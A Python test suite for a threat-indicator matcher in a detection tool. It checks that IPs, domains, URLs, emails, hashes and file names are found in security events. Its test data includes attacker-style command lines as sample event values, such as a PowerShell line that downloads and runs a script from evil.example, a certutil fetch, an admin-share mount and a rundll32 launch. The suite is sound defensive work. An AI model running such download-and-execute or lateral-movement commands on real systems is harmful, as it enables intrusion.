"""Every value that an indicator names is found wherever an event can hold it, and nothing else is."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from istmo.detect.indicators import KINDS, Matcher, Term, values
from istmo.detect.indicators.matcher import MOST_TOLD
from istmo.errors import InvalidInput
from istmo.model import values as model_values
from istmo.model.ids import new_id

from .naive import naive_match

A = "indicator--0d3f6f4e-6a0c-4d38-9a53-2f6b3c8f1a01"
B = "indicator--4b9c5a70-92e1-4f0f-8f2b-6d1b2d0e7c02"
SHA256 = "5d6c0f7be4f3a9f0c1f4b1d9a6e8c7b2a1908f7e6d5c4b3a29181706f5e4d3c2"
MD5 = "d41d8cd98f00b204e9800998ecf8427e"


class Now:
    """A time that the test sets."""

    at = 1_000

    def __call__(self) -> int:
        return self.at


def matcher(**terms: str) -> Matcher:
    """One indicator a term, its id the kind."""
    made = Matcher(Now())
    for kind, value in terms.items():
        assert made.put(kind, [(kind, value)]) == ()
    return made


def found(made: Matcher, **fields: Any) -> set[tuple[str, str, str]]:
    return {(hit.id, hit.term, hit.field) for hit in made.match(fields)}


@pytest.mark.parametrize(
    ("kind", "term", "field", "value"),
    [
        ("ipv4", "203.0.113.77", "DestinationIp", "203.0.113.77"),
        ("ipv4", "203.0.113.0/24", "SourceIp", "203.0.113.200"),
        ("ipv4", "203.0.113.77", "IpAddress", "::ffff:203.0.113.77"),
        ("ipv4", "203.0.113.77", "QueryResults", "type:  5 cdn.example;::ffff:203.0.113.77;"),
        ("ipv4", "203.0.113.77", "CommandLine", "ping -n 1 203.0.113.77"),
        ("ipv4", "203.0.113.77", "src_ip", "203.0.113.77:4433"),
        ("ipv4", "203.0.113.77", "something_new", "203.0.113.77"),
        ("ipv4", "203.0.113.77", "c-uri", "http://203.0.113.77:8080/a"),
        ("ipv6", "2001:db8::7", "DestinationIp", "2001:0DB8:0:0:0:0:0:7"),
        ("ipv6", "2001:db8::/32", "DestinationIp", "2001:db8:1::1%12"),
        ("ipv6", "2001:db8::7", "CommandLine", "curl http://[2001:db8::7]:81/x"),
        ("domain", "evil.example", "QueryName", "evil.example"),
        ("domain", "evil.example", "QueryName", "A.b.EVIL.example."),
        ("domain", "evil.example", "DestinationHostname", "c2.evil.example"),
        ("domain", "evil.example", "QueryResults", "type:  5 cdn.evil.example;192.0.2.1;"),
        ("domain", "evil.example", "url", "https://user@www.evil.example:444/a?b=c"),
        ("domain", "evil.example", "cs-host", "www.evil.example:8080"),
        ("domain", "evil.example", "from", "Ana <ana@mail.evil.example>"),
        ("domain", "evil.example", "CommandLine", r"net use \\files.evil.example\c$"),
        ("domain", "evil.example", "ShareName", r"\\files.evil.example\c$"),
        ("domain", "evil.example", "Image", r"\\files.evil.example\c$\run.exe"),
        ("domain", "xn--pea-8ma.example", "QueryName", "www.PEÑA.example"),
        ("url", "https://evil.example/a.ps1", "CommandLine", "IEX(iwr('HTTPS://Evil.example:443/a.ps1'))"),
        ("url", "https://evil.example/a.ps1", "CommandLine", "certutil -f evil.example/a.ps1"),
        ("url", "https://evil.example/a.ps1", "ScriptBlockText", "see (https://evil.example/a.ps1)."),
        ("url", "http://evil.example/", "c-uri", "http://evil.example"),
        ("url", "http://intranet/x", "CommandLine", "curl http://intranet/x"),
        ("url", "http://evil.example/a?b=c", "url", "evil.example/a?b=c"),
        ("email", "ana@evil.example", "from", "Ana <Ana@Evil.example>"),
        ("email", "ana@evil.example", "UserPrincipalName", "ana@evil.example"),
        ("email", "ana@evil.example", "CommandLine", "blat -to='ana@evil.example' -f x@y.example"),
        (
            "sha256",
            SHA256,
            "Hashes",
            f"SHA1={'0' * 40},MD5={MD5.upper()},SHA256={SHA256.upper()},IMPHASH={MD5}",
        ),
        ("md5", MD5, "Hashes", f"MD5={MD5.upper()}"),
        ("sha256", SHA256, "FileHash", "0x" + SHA256.upper()),
        ("sha256", SHA256, "file_digest", SHA256),
        ("sha256", SHA256, "Payload", f"Get-FileHash -eq {SHA256}"),
        ("filename", "evil.exe", "Image", r"C:\Users\Public\EVIL.exe"),
        ("filename", "evil.exe", "TargetFilename", "/tmp/evil.exe"),
        ("filename", r"c:\users\public\evil.exe", "Image", r"C:\Users\Public\evil.exe"),
        ("filename", "evil.dll", "CommandLine", r"rundll32 C:\Users\Public\Evil.dll,Start"),
        ("filename", "my evil file.exe", "CommandLine", r'cmd /c "C:\Temp\my evil file.exe" /s'),
    ],
)
def test_finds_a_value_wherever_an_event_holds_it(kind: str, term: str, field: str, value: str) -> None:
    assert found(matcher(**{kind: term}), Channel="x", **{field: value}) == {(kind, term, field)}


@pytest.mark.parametrize(
    ("kind", "term", "field", "value"),
    [
        ("domain", "evil.example", "QueryName", "notevil.example"),
        ("domain", "evil.example", "QueryName", "evil.example.net"),
        ("domain", "evil.example", "QueryName", "example"),
        ("ipv4", "203.0.113.7", "CommandLine", "ping 203.0.113.77"),
        ("ipv4", "203.0.113.7", "FileVersion", "203.0.113.7"),
        ("url", "http://evil.example/a", "url", "http://evil.example/a/b"),
        ("md5", MD5, "Hashes", f"IMPHASH={MD5}"),
        ("filename", "evil.exe", "Image", r"C:\notevil.exe"),
        ("filename", "evil.exe", "Image", r"C:\evil.exe\other.exe"),
        ("domain", "evil.example", "Computer", "evil.example"),
        ("email", "ana@evil.example", "from", "juana@evil.example"),
        ("domain", "evil.example", "something_new", "a sentence about evil.example"),
    ],
)
def test_does_not_find_what_only_resembles_it(kind: str, term: str, field: str, value: str) -> None:
    assert found(matcher(**{kind: term}), Channel="x", **{field: value}) == set()


def test_lists_and_nested_fields_are_looked_into() -> None:
    made = matcher(ipv4="192.0.2.1", domain="evil.example")
    event = {"dns": {"rrname": "a.evil.example", "answers": [{"rdata": "192.0.2.1"}]}, "tags": ["192.0.2.1"]}
    assert {(hit.id, hit.field) for hit in made.match(event)} == {
        ("domain", "dns.rrname"),
        ("ipv4", "dns.answers.rdata"),
    }
    deep: Any = "192.0.2.1"
    for _ in range(500):
        deep = [deep]
    assert made.match({"x": deep}) == []


def test_a_rendered_message_counts_only_where_nothing_else_says_it() -> None:
    made = matcher(ipv4="192.0.2.1")
    assert found(made, Channel="Security", Message="Source: 192.0.2.1") == set()
    assert found(made, Message="Source: 192.0.2.1") == {("ipv4", "192.0.2.1", "Message")}
    assert found(made, message="sshd: failed from 192.0.2.1 port 22") == {("ipv4", "192.0.2.1", "message")}


def test_one_that_is_added_or_removed_counts_from_the_next_event_on() -> None:
    made = Matcher(Now())
    event = {"DestinationIp": "192.0.2.1"}
    assert made.match(event) == []
    made.put(A, [("ipv4", "192.0.2.1")])
    made.put(B, [("ipv4", "192.0.2.0/24")])
    assert {hit.id for hit in made.match(event)} == {A, B}
    assert made.drop(A)
    assert {hit.id for hit in made.match(event)} == {B}
    assert not made.drop(A)
    made.put(B, [("ipv4", "198.51.100.1")])
    assert made.match(event) == []
    assert made.terms(B) == (Term("ipv4", "198.51.100.1"),)
    made.clear()
    assert len(made) == 0
    assert made.match({"DestinationIp": "198.51.100.1"}) == []


def test_an_indicator_ends_by_itself_at_its_time_even_where_a_value_is_remembered() -> None:
    now = Now()
    made = Matcher(now)
    made.put(A, [("domain", "evil.example")], until=2_000)
    event = {"QueryName": "evil.example"}
    assert made.match(event)
    now.at = 1_999
    assert made.match(event)
    now.at = 2_000
    assert made.match(event) == []
    made.put(A, [("domain", "evil.example")], until=None)
    assert made.match(event)
    made.put(A, [("domain", "evil.example")], until=2_000)
    assert made.match(event) == []
    assert made.drop_expired() == 1
    assert A not in made


def test_a_term_that_cannot_be_served_is_named_and_costs_the_others_nothing() -> None:
    made = Matcher(Now())
    bad = [
        ("ipv4", "300.1.1.1"),
        ("colour", "red"),
        ("domain", "com"),
        ("md5", SHA256),
        ("ipv4", "2001:db8::/32"),
    ]
    assert made.put(A, [*bad, ("ipv4", "192.0.2.1")]) == tuple(bad)
    assert made.match({"DestinationIp": "192.0.2.1"})
    assert made.put(A, bad) == tuple(bad)
    assert A not in made


def test_a_flood_of_indicators_for_one_value_is_bounded() -> None:
    made = Matcher(Now())
    for number in range(MOST_TOLD + 500):
        made.put(f"id {number}", [("ipv4", "192.0.2.1")])
    assert len(made.match({"DestinationIp": "192.0.2.1"})) == MOST_TOLD
    for number in range(MOST_TOLD + 500):
        made.drop(f"id {number}")
    assert made.match({"DestinationIp": "192.0.2.1"}) == []


def test_hostile_text_takes_no_more_than_its_length() -> None:
    made = matcher(
        **{
            "domain": "evil.example",
            "url": "http://evil.example/",
            "ipv6": "2001:db8::1",
            "md5": MD5,
            "email": "a@evil.example",
            "filename": "a b.exe",
        }
    )
    for hostile in (
        "a" * 500_000,
        "a." * 250_000,
        "a@" * 250_000,
        ":" * 500_000,
        "http://" * 70_000,
        "\"'" * 250_000,
        "ñ.ñ " * 100_000,
        "[" * 500_000,
        "../" * 160_000,
        "a-" * 250_000,
        "0" * 500_000,
    ):
        assert (
            made.match({"CommandLine": hostile, "url": hostile, "QueryName": hostile, "odd": hostile}) == []
        )


def test_odd_values_are_passed_over() -> None:
    made = matcher(domain="evil.example", ipv4="192.0.2.1")
    event = {
        "QueryName": None,
        "DestinationIp": 12,
        "url": True,
        "Image": 1.5,
        "x": b"",
        "CommandLine": "",
        "y": {},
    }
    assert made.match(event) == []
    assert made.match({}) == []
    assert (
        made.match({"url": "http://[", "QueryName": "\ud800.evil", "DestinationIp": "\x00", "from": "@"})
        == []
    )


# Against the naive matcher, on values drawn from a small world so that they meet.

NAMES = st.sampled_from(
    ["evil.example", "a.evil.example", "b.a.evil.example", "other.example", "xn--pea-8ma.example"]
)
V4 = st.sampled_from(["192.0.2.1", "192.0.2.77", "198.51.100.1", "10.1.2.3"])
V6 = st.sampled_from(["2001:db8::1", "2001:db8:1::77", "fe80::1", "::ffff:192.0.2.1"])
URLS = st.builds(
    "{}://{}{}{}".format,
    st.sampled_from(["http", "HTTPS"]),
    NAMES | V4,
    st.sampled_from(["", ":8080", ":80"]),
    st.sampled_from(["", "/", "/a", "/a?b=c"]),
)
MAIL = st.builds("{}@{}".format, st.sampled_from(["ana", "Ana.B", "x+y"]), NAMES)
DIGESTS = st.sampled_from([MD5, "a" * 40, SHA256, "b" * 128])
FILES = st.sampled_from(["evil.exe", "a.dll", "factura.pdf.exe"])
RANGES = st.sampled_from(
    ["192.0.2.0/24", "192.0.0.0/16", "10.0.0.0/8", "2001:db8::/32", "2001:db8:1::/48", "192.0.2.1/32"]
)
VALUES = NAMES | V4 | V6 | URLS | MAIL | DIGESTS | FILES | RANGES


@st.composite
def term(draw: st.DrawFn) -> tuple[str, str]:
    value = draw(VALUES)
    for kind in draw(st.permutations([one for one in KINDS if one != "filename"])):
        try:
            return kind, model_values.normalise(kind, value)
        except InvalidInput:
            continue
    return "filename", model_values.normalise("filename", value)


FIELDS = {
    "DestinationIp": ("host", V4 | V6),
    "QueryName": ("host", NAMES),
    "url": ("whole", URLS),
    "unlisted": ("whole", NAMES | V4 | V6 | URLS | MAIL | DIGESTS),
    "Hashes": (
        "hashes",
        st.builds("MD5={},SHA256={}".format, st.just(MD5), st.just(SHA256.upper())) | DIGESTS,
    ),
    "Image": ("path", st.builds("{}{}".format, st.sampled_from(["C:\\x\\", "/tmp/", ""]), FILES)),
    "CommandLine": (
        "text",
        st.lists(NAMES | V4 | V6 | URLS | MAIL | DIGESTS | FILES, max_size=4).map(" ".join),
    ),
}
EVENTS = st.fixed_dictionaries({}, optional={name: values for name, (_, values) in FIELDS.items()})


@given(
    st.lists(st.lists(term(), min_size=1, max_size=3), max_size=8),
    st.lists(EVENTS, min_size=1, max_size=4),
    st.data(),
)
def test_agrees_with_the_naive_matcher_whatever_comes_and_goes(
    given_terms: list[list[tuple[str, str]]], events: list[dict[str, str]], data: st.DataObject
) -> None:
    made, truth = Matcher(Now()), {}
    for number, terms in enumerate(given_terms):
        id = new_id("indicator") if number % 2 else f"odd {number}"
        assert made.put(id, terms) == ()
        truth[id] = terms
        if data.draw(st.booleans()):
            gone = data.draw(st.sampled_from(sorted(truth)))
            assert made.drop(gone)
            del truth[gone]
        for event in events:
            hits = made.match(event)
            roles = {name: FIELDS[name][0] for name in event}
            # A bare URL also stands for its web address without the scheme; the naive one reads it whole.
            assert {hit[:4] for hit in hits} == naive_match(truth, event, roles)
    assert sorted(made) == sorted(truth)


@given(
    st.text(max_size=300),
    st.sampled_from(["CommandLine", "url", "QueryName", "Hashes", "from", "Image", "odd"]),
)
def test_no_text_breaks_it(text: str, field: str) -> None:
    made = matcher(
        **{
            "ipv4": "192.0.2.0/24",
            "domain": "evil.example",
            "url": "http://evil.example/",
            "md5": MD5,
            "email": "a@evil.example",
            "filename": "a b.exe",
            "ipv6": "2001:db8::/32",
        }
    )
    made.match({field: text, "x": [text]})


URL_TEXT = st.builds(
    "{}://{}{}{}".format,
    st.sampled_from(["http", "HTTP", "https", "ftp", "h2", "x+y"]),
    st.sampled_from(
        ["a.example", "A.example", "a.example.", "1.2.3.4", "[::1]", "a", "ñ.example", "a_b.example"]
    ),
    st.sampled_from(["", ":80", ":443", ":8080", ":"]),
    st.text("/a?#&=.%~!\"'@:", max_size=8),
)


@given(URL_TEXT)
def test_a_url_of_an_event_comes_to_the_same_form_as_that_of_an_indicator(text: str) -> None:
    try:
        expected = model_values.normalise("url", text)
    except InvalidInput:
        return
    read = values.read_url(text)
    assert read is not None
    assert read[0] == expected


@given(st.sampled_from(KINDS), VALUES | URL_TEXT | st.text(max_size=20))
def test_every_normal_form_is_its_own_key(kind: str, text: str) -> None:
    """What sharing calls normal is served, and reads back as it was."""
    try:
        normal = model_values.normalise(kind, text)
    except InvalidInput:
        return
    made = Matcher(Now())
    assert made.put(A, [(kind, normal)]) == ()
    assert made.terms(A) == (Term(kind, normal),)
